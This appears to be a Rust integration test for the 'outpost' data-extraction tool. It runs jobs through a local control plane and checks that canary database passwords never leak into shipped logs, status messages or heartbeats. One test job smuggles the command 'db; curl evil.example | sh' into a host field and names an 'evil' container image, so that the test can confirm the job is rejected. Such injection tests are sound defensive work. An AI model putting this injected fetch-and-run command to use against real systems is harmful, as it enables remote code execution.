//! Local mode against the reference control plane, both as real processes: `outpost
//! control-plane serve`, `outpost control-plane enqueue`, and `outpost run --control-plane`
//! running jobs against the real PostgreSQL from scripts/services.sh. The canary test:
//! secrets placed in source passwords never reach anything shipped — the control plane's
//! whole database (logs, status messages, heartbeats) is searched byte by byte.

use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

fn env(name: &str) -> String {
    std::env::var(name).unwrap_or_else(|_| {
        panic!("{name} is not set: run the tests through ./scripts/test.sh, which starts PostgreSQL and exports it")
    })
}

fn outpost() -> Command {
    Command::new(env!("CARGO_BIN_EXE_outpost"))
}

struct Server {
    child: Child,
    url: String,
    database: PathBuf,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The reference server, signing direct-ingestion URLs for the test S3 store (s3s-fs,
/// which checks every signature).
fn serve(dir: &Path) -> Server {
    let credentials = dir.join("ingest-credentials");
    std::fs::create_dir_all(&credentials).expect("credentials dir");
    std::fs::write(
        credentials.join("access-key-id"),
        env("OUTPOST_TEST_S3_ACCESS_KEY"),
    )
    .expect("key");
    std::fs::write(
        credentials.join("secret-access-key"),
        env("OUTPOST_TEST_S3_SECRET_KEY"),
    )
    .expect("secret");
    std::fs::write(dir.join("tokens"), "local-1 agent-token-abcdef0123\n").expect("tokens");
    std::fs::write(dir.join("admin-token"), "admin-token-abcdef0123\n").expect("admin");
    std::fs::write(dir.join("agent-token"), "agent-token-abcdef0123\n").expect("agent token");
    let database = dir.join("control-plane.db");
    let mut child = outpost()
        .args([
            "control-plane",
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--tokens",
        ])
        .arg(dir.join("tokens"))
        .arg("--admin-token-file")
        .arg(dir.join("admin-token"))
        .arg("--database")
        .arg(&database)
        .arg(format!(
            "--ingest-bucket=s3://{}/ingest-{}",
            env("OUTPOST_TEST_S3_BUCKET"),
            std::process::id()
        ))
        .arg(format!(
            "--ingest-endpoint={}",
            env("OUTPOST_TEST_S3_ENDPOINT")
        ))
        .arg("--ingest-region=us-east-1")
        .arg("--ingest-credentials-dir")
        .arg(&credentials)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("server starts");
    let mut line = String::new();
    BufReader::new(child.stdout.take().expect("stdout"))
        .read_line(&mut line)
        .expect("listening line");
    let url = line
        .trim()
        .strip_prefix("listening on ")
        .unwrap_or_else(|| panic!("unexpected first line `{line}`"))
        .to_owned();
    Server {
        child,
        url,
        database,
    }
}

fn enqueue(server: &Server, dir: &Path, name: &str, job: serde_json::Value) {
    let file = dir.join(format!("{name}.json"));
    std::fs::write(&file, job.to_string()).expect("job file");
    let out = outpost()
        .args([
            "control-plane",
            "enqueue",
            "--url",
            &server.url,
            "--agent-id",
            "local-1",
        ])
        .arg("--admin-token-file")
        .arg(dir.join("admin-token"))
        .arg(&file)
        .output()
        .expect("enqueue runs");
    assert!(
        out.status.success(),
        "enqueue: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn psql(sql: &str) {
    let out = Command::new(format!("{}/psql", env("OUTPOST_TEST_PG_BIN")))
        .args([
            "-v",
            "ON_ERROR_STOP=1",
            "-h",
            &env("OUTPOST_TEST_PG_HOST"),
            "-p",
            &env("OUTPOST_TEST_PG_PORT"),
            "-U",
            &env("OUTPOST_TEST_PG_SUPERUSER"),
            "-d",
            "postgres",
            "-c",
            sql,
        ])
        .env("PGPASSWORD", env("OUTPOST_TEST_PG_PASSWORD"))
        .output()
        .expect("psql runs");
    assert!(
        out.status.success(),
        "psql: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn job(id: &str, connection: &str, user: &str, mode: &str) -> serde_json::Value {
    serde_json::json!({
        "id": id, "runId": "r1", "connector": "postgres", "connection": connection,
        "transferMode": mode,
        "parameters": {
            "host": env("OUTPOST_TEST_PG_HOST"),
            "port": env("OUTPOST_TEST_PG_PORT").parse::<u64>().expect("port"),
            "database": "postgres", "user": user, "ssl-mode": "require",
            "include-schemas": "^public$"
        }
    })
}

/// The control plane's state, read from its SQLite file: (job, state, message).
fn states(database: &Path) -> Vec<(String, String, Option<String>)> {
    let connection = rusqlite::Connection::open(database).expect("open");
    let mut statement = connection
        .prepare("SELECT id, state, message FROM jobs ORDER BY seq")
        .expect("query");
    statement
        .query_map([], |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)))
        .expect("rows")
        .map(Result::unwrap)
        .collect()
}

#[test]
fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
    let dir = std::env::temp_dir().join(format!("outpost-cp-cli-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("scratch");
    let pid = std::process::id();
    let good_canary = format!("CANARY-GOOD-{pid}-71c3e");
    let wrong_canary = format!("CANARY-WRONG-{pid}-5d0a9");
    let role = format!("outpost_canary_{pid}");
    psql(&format!(
        "DROP ROLE IF EXISTS {role}; CREATE ROLE {role} LOGIN PASSWORD '{good_canary}'"
    ));

    // One folder per connection, as the Secrets `outpost-source-<connection>` would be.
    let secrets = dir.join("secrets");
    for (connection, password) in [("pg-good", &good_canary), ("pg-wrong", &wrong_canary)] {
        std::fs::create_dir_all(secrets.join(connection)).expect("secrets dir");
        std::fs::write(secrets.join(connection).join("password"), password).expect("password");
    }
    let server = serve(&dir);
    // Direct ingestion: the control plane signs the URLs, s3s-fs checks them.
    enqueue(
        &server,
        &dir,
        "good",
        job("job-good", "pg-good", &role, "direct-ingestion"),
    );
    enqueue(
        &server,
        &dir,
        "wrong",
        job("job-wrong", "pg-wrong", &role, "bucket-relay"),
    );
    let mut injected = job("job-injected", "pg-good", &role, "bucket-relay");
    injected["image"] = serde_json::json!("evil/image:latest");
    injected["parameters"]["host"] = serde_json::json!("db; curl evil.example | sh");
    enqueue(&server, &dir, "injected", injected);

    let bucket = dir.join("bucket");
    let run = outpost()
        .args(["run", "--once", "--control-plane", &server.url])
        .arg("--token-file")
        .arg(dir.join("agent-token"))
        .arg("--secrets-root")
        .arg(&secrets)
        .arg(format!("--to=file://{}", bucket.display()))
        .env("OUTPOST_AGENT_ID", "local-1")
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&run.stdout);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "run failed:\n{stdout}\n{stderr}");
    assert!(
        stdout.contains("1 succeeded, 1 failed, 1 rejected"),
        "{stdout}"
    );

    let states = states(&server.database);
    let state_of = |id: &str| states.iter().find(|s| s.0 == id).cloned().expect("job");
    assert_eq!(state_of("job-good").1, "succeeded");
    let (_, state, message) = state_of("job-wrong");
    assert_eq!(state, "failed");
    let message = message.expect("a failure message");
    assert!(
        message.contains("exit code 77"),
        "login refused is reported: {message}"
    );
    let (_, state, message) = state_of("job-injected");
    assert_eq!(state, "rejected");
    let message = message.expect("reasons");
    assert!(
        message.contains("`image`") && message.contains("host"),
        "{message}"
    );
    // Logs, status messages and heartbeats were shipped: a direct-ingestion run's logs to
    // the control plane, a bucket-relay run's logs to the relay bucket…
    let connection = rusqlite::Connection::open(&server.database).expect("open");
    let logs: Vec<String> = connection
        .prepare("SELECT body FROM logs")
        .expect("q")
        .query_map([], |r| r.get(0))
        .expect("rows")
        .map(Result::unwrap)
        .collect();
    assert_eq!(logs.len(), 1, "the direct-ingestion run's logs: {logs:?}");
    assert!(
        logs[0].contains("connection pg-good")
            && logs[0].contains("delivered")
            && logs[0].contains("manifest.json"),
        "{logs:?}"
    );
    let relay_logs: Vec<PathBuf> = std::fs::read_dir(bucket.join("_logs/pg-wrong/job-wrong/r1"))
        .expect("the bucket-relay run's logs are in the bucket")
        .map(|e| e.expect("entry").path())
        .collect();
    assert_eq!(relay_logs.len(), 1, "{relay_logs:?}");
    let relay_log = std::fs::read_to_string(&relay_logs[0]).expect("log");
    assert!(
        relay_log.contains("connection pg-wrong") && relay_log.contains("failed"),
        "{relay_log}"
    );
    let heartbeats: i64 = connection
        .query_row("SELECT COUNT(*) FROM heartbeats", [], |r| r.get(0))
        .expect("count");
    assert!(heartbeats >= 1);
    drop(connection);
    drop(server);
    // …and no canary is anywhere in the control plane's files (database and WAL), in the
    // logs in the bucket, nor in what the runner printed.
    let mut shipped = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("dir").filter_map(Result::ok) {
        if entry
            .file_name()
            .to_string_lossy()
            .starts_with("control-plane.db")
        {
            shipped.extend(std::fs::read(entry.path()).expect("read"));
        }
    }
    shipped.extend(relay_log.as_bytes());
    let found = |needle: &str| {
        shipped
            .windows(needle.len())
            .any(|w| w == needle.as_bytes())
    };
    // The search finds what is there: the role name is in the jobs and the logs.
    assert!(
        found(&role),
        "the search cannot find what the control plane holds"
    );
    for canary in [&good_canary, &wrong_canary] {
        assert!(!found(canary), "{canary} reached the control plane");
        assert!(!stdout.contains(canary.as_str()) && !stderr.contains(canary.as_str()));
    }
    psql(&format!("DROP ROLE IF EXISTS {role}"));
    let _ = std::fs::remove_dir_all(&dir);
}
